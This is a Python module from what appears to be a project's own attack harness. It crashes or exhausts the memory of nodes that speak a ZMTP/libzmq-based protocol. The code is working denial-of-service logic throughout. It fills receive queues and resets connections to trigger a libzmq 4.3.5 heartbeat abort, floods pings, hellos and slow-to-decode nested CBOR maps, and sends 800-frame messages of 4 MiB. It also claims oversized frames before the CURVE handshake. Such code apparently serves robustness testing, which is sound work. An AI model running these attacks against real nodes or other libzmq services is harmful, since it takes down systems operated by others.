"""Attacks on a node's life, and on its memory: what ends the process, or makes it hold gigabytes, within seconds.

libzmq 4.3.5 aborts when a heartbeat falls due on a connection that it has stopped reading (its receive queue is full)
and that was reset meanwhile: `!_io_error`, stream_engine_base.cpp. So: fill, reset, wait.
"""

from __future__ import annotations

import itertools
import os
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress

from protocol import cbor
from protocol.codec import encode_message
from protocol.limits import MAGIC, MAX_DATA_BYTES, MAX_DATA_HEADER_BYTES, PROTOCOL_VERSION
from protocol.link.admission import SwarmKey
from protocol.link.hello import Hello
from scripts.attacks.floods import hello_of, nested_maps, ping
from scripts.attacks.raw_zmtp import COMMAND, DoorShutError, RawZmtp, connect, frame, greeted, reset
from scripts.attacks.target import Attack, Attacker, Target

FILL_S = 0.4
"""How long one connection is filled: more than queues and buffers hold goes through in less."""
BLOCKED_S = 0.05
"""A listener that takes nothing for so long has stopped reading."""
HEARTBEAT_S = 1.2
"""By then a heartbeat has fallen due on every connection."""
CONNECTIONS = 48
"""Connections that are filled before all are reset: the more, the longer each waits for its turn to be read."""
CONNECTIONS_OF_SLOW = 4
"""The same, where one message keeps the reader busy for most of a second."""
FRAMES = 800
FRAME_BYTES = 4 << 20
CLAIMS = 100
"""Connections that claim a frame of the largest size before CURVE is through."""


def _fill_and_reset(target: Target, attacker: Attacker, until: float, port: int, payload: bytes, count: int) -> None:
    """Rounds of: fill the receive queues of many connections, reset all, wait for the heartbeats."""
    while time.monotonic() < until:
        with suppress(DoorShutError), ExitStack() as stack:
            for _ in range(count):
                if time.monotonic() > until:
                    break
                connection = stack.enter_context(target.dealer(port, attacker))
                _join(connection, target, attacker, port)
                connection.fill(_sealed(connection, payload), FILL_S, BLOCKED_S)
        time.sleep(max(0.0, min(HEARTBEAT_S, until - time.monotonic())))


def _sealed(connection: RawZmtp, payload: bytes) -> Iterator[bytes]:
    """The same message again and again, some 64 KiB at once; far more than queues and buffers hold."""
    at_once = max(1, (1 << 16) // (len(payload) + 64))
    for _ in range(1024):
        yield b"".join(connection.sealed(payload) for _ in range(at_once))


def _join(connection: RawZmtp, target: Target, attacker: Attacker, port: int) -> None:
    """A member says hello, as members do."""
    if attacker.swarm_key is None or port != target.control_port:
        return
    hello = Hello(attacker.me.public_key, (PROTOCOL_VERSION,), "crash", (), 0, (), 0, (1,), os.urandom(16))
    proved = SwarmKey(attacker.swarm_key).prove(hello, target.public_key)
    connection.send([bytes(encode_message(proved, 1)[0])])


def slow_maps(target: Target, attacker: Attacker, until: float) -> None:
    """Control plane: 60 KB of CBOR that take most of a second to decode."""
    _fill_and_reset(target, attacker, until, target.control_port, nested_maps(60_000), CONNECTIONS_OF_SLOW)


def pings(target: Target, attacker: Attacker, until: float) -> None:
    """Control plane: nothing but pings."""
    _fill_and_reset(target, attacker, until, target.control_port, ping(), CONNECTIONS)


def hello_crash(target: Target, attacker: Attacker, until: float) -> None:
    """Control plane: nothing but hellos without a proof."""
    _fill_and_reset(target, attacker, until, target.control_port, hello_of(attacker.me), CONNECTIONS)


def headers(target: Target, attacker: Attacker, until: float) -> None:
    """Data plane: headers of 4 KiB of empty maps."""
    header = nested_maps(MAX_DATA_HEADER_BYTES)
    _fill_and_reset(target, attacker, until, target.data_port, header, CONNECTIONS)


def many_frames(target: Target, attacker: Attacker, until: float) -> None:
    """Data plane: one message of 800 frames of 4 MiB; libzmq bounds frames, and no message."""
    junk = os.urandom(FRAME_BYTES)
    with suppress(DoorShutError), target.dealer(target.data_port, attacker) as connection:
        connection.send_raw(connection.sealed(MAGIC + cbor.encode({0: 32, 1: 1, 4: {}}), more=True))
        for number in range(FRAMES):
            left_s = until - time.monotonic()
            if left_s <= 0:
                return
            connection.send_raw(connection.sealed(junk, more=number < FRAMES - 1), left_s)


def claimed_frames(target: Target, attacker: Attacker, until: float) -> None:
    """Both planes: many connections that claim a frame of 8 MiB in place of CURVE's first command, and fill it."""
    claim = frame(os.urandom(1 << 20), COMMAND, MAX_DATA_BYTES)
    more = os.urandom(1 << 20)
    held = []
    for number in itertools.count():
        if time.monotonic() > until or number >= CLAIMS:
            break
        with suppress(DoorShutError, OSError):
            tcp = connect(target.host, target.ports[number % 2])
            held.append(tcp)
            if not greeted(tcp):
                continue
            tcp.settimeout(BLOCKED_S)
            for part in [claim, *[more] * 6]:
                tcp.sendall(part)
    time.sleep(max(0.0, min(1.0, until - time.monotonic())))
    for tcp in held:
        reset(tcp)


CRASHES: dict[str, Attack] = {
    "crash-maps": slow_maps,
    "crash-pings": pings,
    "crash-hellos": hello_crash,
    "crash-headers": headers,
}
MEMORY: dict[str, Attack] = {"memory-frames": many_frames, "memory-claims": claimed_frames}
